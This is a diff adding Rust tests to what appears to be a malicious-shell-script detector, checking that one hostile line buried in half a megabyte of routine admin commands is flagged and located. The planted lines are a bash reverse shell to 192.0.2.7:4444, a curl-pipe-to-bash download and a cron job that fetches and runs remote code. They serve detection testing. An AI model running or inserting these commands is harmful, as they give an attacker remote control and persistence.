@@ -99,3 +99,94 @@ fn a_model_that_does_not_fit_is_refused_with_what_is_wrong() {
     let text = String::from_utf8_lossy(&output.stderr);
     assert!(text.contains(&file.path().display().to_string()) && text.contains("cannot be loaded"), "{text}");
 }
+
+/// Harmless lines of an administrator, about as many bytes as asked for.
+fn harmless(bytes: usize) -> String {
+    const LINES: [&str; 6] = [
+        "for host in $(cat hosts.txt); do ssh \"$host\" uptime; done",
+        "if [ ! -d /var/lib/app ]; then mkdir -p /var/lib/app; fi",
+        "tar czf \"/backup/app-$(date +%F).tar.gz\" /etc/app /var/lib/app",
+        "find /var/log/app -name '*.log' -mtime +7 -delete",
+        "export LANG=C.UTF-8",
+        "systemctl restart app.service && systemctl status app.service",
+    ];
+    let mut text = "#!/bin/bash\nset -eu\n".to_owned();
+    for i in 0.. {
+        if text.len() >= bytes {
+            break;
+        }
+        text.push_str(LINES[i * 7 % 6 + usize::from(i % 5 == 0 && i * 7 % 6 < 5)]);
+        text.push('\n');
+    }
+    text
+}
+
+#[test]
+fn one_bad_line_in_half_a_megabyte_is_found_and_named() {
+    let host = harmless(500 * 1024);
+    let bad = [
+        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
+        "curl -s http://192.0.2.7/x.sh | bash",
+        "(crontab -l; echo '* * * * * curl -s http://192.0.2.7/x | sh') | crontab -",
+    ];
+    let middle = host.len() / 2 + host[host.len() / 2..].find('\n').unwrap() + 1;
+    let mut texts = vec![host.clone()];
+    for line in bad {
+        texts.push(format!("{host}{line}\n"));
+        texts.push(format!("{}{line}\n{}", &host[..middle], &host[middle..]));
+    }
+    let mut file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
+    for text in &texts {
+        writeln!(file, "{}", serde_json::json!({ "content": text })).unwrap();
+    }
+    let (lines, errors, code) = score(file.path());
+    assert_eq!(code, Some(0), "{errors}");
+    assert_eq!(lines[0]["malicious"], false, "the harmless part alone: {}", lines[0]["score"]);
+    for (line, text) in lines.iter().zip(&texts).skip(1) {
+        let where_it_is = text.lines().position(|l| bad.contains(&l)).unwrap() + 1;
+        assert_eq!(line["malicious"], true, "{:?} in line {where_it_is}: {}", text.lines().nth(where_it_is - 1), line["score"]);
+        let spans = line["spans"].as_array().unwrap();
+        assert!(
+            spans.iter().any(|s| (s["first_line"].as_u64().unwrap()..=s["last_line"].as_u64().unwrap())
+                .contains(&(where_it_is as u64))),
+            "{where_it_is} is not in {spans:?}"
+        );
+    }
+}
+
+#[test]
+fn tiny_scripts_are_harmless() {
+    let mut file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
+    let texts = [
+        "id",
+        "ls",
+        "ls -la",
+        "whoami",
+        "pwd",
+        "env",
+        "ps aux",
+        "date",
+        "true",
+        "exit 0",
+        "uname -a",
+        "hostname",
+        "cat /etc/os-release",
+        "sleep 1",
+        "echo ok",
+        "df -h",
+        "cd /app && ls",
+        "kill -0 1",
+        "test -f /ready",
+        "cat /etc/passwd",
+        "exec \"$@\"",
+        "",
+    ];
+    for text in texts {
+        writeln!(file, "{}", serde_json::json!({ "content": text })).unwrap();
+    }
+    let (lines, errors, code) = score(file.path());
+    assert_eq!(code, Some(0), "{errors}");
+    for (line, text) in lines.iter().zip(texts) {
+        assert_eq!(line["malicious"], false, "{text:?}: {}", line["score"]);
+    }
+}
